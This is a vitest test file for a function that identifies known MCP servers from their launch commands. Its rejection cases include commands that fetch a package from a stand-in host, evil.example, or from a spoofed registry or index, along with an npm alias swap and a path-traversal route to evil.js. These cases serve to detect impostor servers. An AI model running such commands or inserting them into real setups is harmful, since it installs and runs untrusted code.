import { describe, expect, test } from 'vitest';
import { loadCatalogue } from '../settings/load-catalogue.ts';
import { knownAs, packagesOf, slugOf } from './known-as.ts';

const catalogue = loadCatalogue();

describe('which known server a server is', () => {
  test.each([
    ['npx -y @playwright/mcp@latest', 'playwright'],
    ['npx --package=@playwright/mcp@0.0.41 mcp-server-playwright', 'playwright'],
    ['/usr/local/bin/npx -y @modelcontextprotocol/server-filesystem /srv/data', 'filesystem'],
    ['npm exec -- @modelcontextprotocol/server-memory', 'memory'],
    ['uvx mitmproxy-mcp==0.6.0', 'mitmproxy'],
    ['uvx --python 3.12 --from mitmproxy-mcp mitmproxy-mcp', 'mitmproxy'],
    ['uvx mcp-server-git[all]>=1 --repository /srv/x', 'git'],
    ['uv tool run mitmproxy-mcp', 'mitmproxy'],
    ['uv run --directory /srv/mitm mitmproxy-mcp', 'mitmproxy'],
    ['pipx run mitmproxy-mcp', 'mitmproxy'],
    ['/home/ann/.venv/bin/mitmproxy-mcp', 'mitmproxy'],
    ['C:\\tools\\mitmproxy-mcp.exe', 'mitmproxy'],
    ['node /srv/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js /srv/data', 'filesystem'],
    ['node C:\\app\\node_modules\\mcp-server-sqlite\\index.js', 'sqlite'],
  ])('%s is %s', (command, known) => {
    expect(knownAs({ name: undefined, command: command.split(' ') }, catalogue)?.name).toBe(known);
  });

  test.each([
    // The name of something else in the command is not that of the server.
    'npx -y evil-server @playwright/mcp',
    'npx -y @playwright/mcp-extra',
    'node server.js',
    'npx evil-server /srv/node_modules/@playwright/mcp',
    'node server.js /srv/node_modules/@playwright/mcp/cli.js',
    'bash -c mitmproxy-mcp',
    // Under its name something else is fetched.
    'npx -y @playwright/mcp@npm:evil-server',
    'npx -y @playwright/mcp@https://evil.example/x.tgz',
    'npx -y --registry https://evil.example @playwright/mcp',
    'uvx --index-url=https://evil.example mitmproxy-mcp',
    'node /srv/node_modules/@playwright/mcp/../../../evil.js',
  ])('%s is none', (command) => {
    expect(knownAs({ name: undefined, command: command.split(' ') }, catalogue)).toBeUndefined();
  });

  test('by its name where the command says nothing; the package goes before the name', () => {
    expect(knownAs({ name: 'Kubernetes (containers)', command: undefined }, catalogue)?.name).toBe(
      'kubernetes-containers',
    );
    expect(knownAs({ name: 'mitmproxy', command: ['node', 'stand-in.js'] }, catalogue)?.name).toBe('mitmproxy');
    expect(knownAs({ name: 'mitmproxy', command: ['npx', '@playwright/mcp'] }, catalogue)?.name).toBe('playwright');
    expect(knownAs({ name: 'nobody-knows-it', command: undefined }, catalogue)).toBeUndefined();
    expect(knownAs({ name: undefined, command: [] }, catalogue)).toBeUndefined();
  });

  test('names as the catalogue writes them', () => {
    expect(slugOf('Kubernetes (containers)')).toBe('kubernetes-containers');
    expect(slugOf('--x__Y  ')).toBe('x-y');
    expect(slugOf('数据库')).toBe('');
    expect(packagesOf([])).toEqual([]);
    expect(packagesOf(['npx', '-y'])).toEqual([]);
  });
});
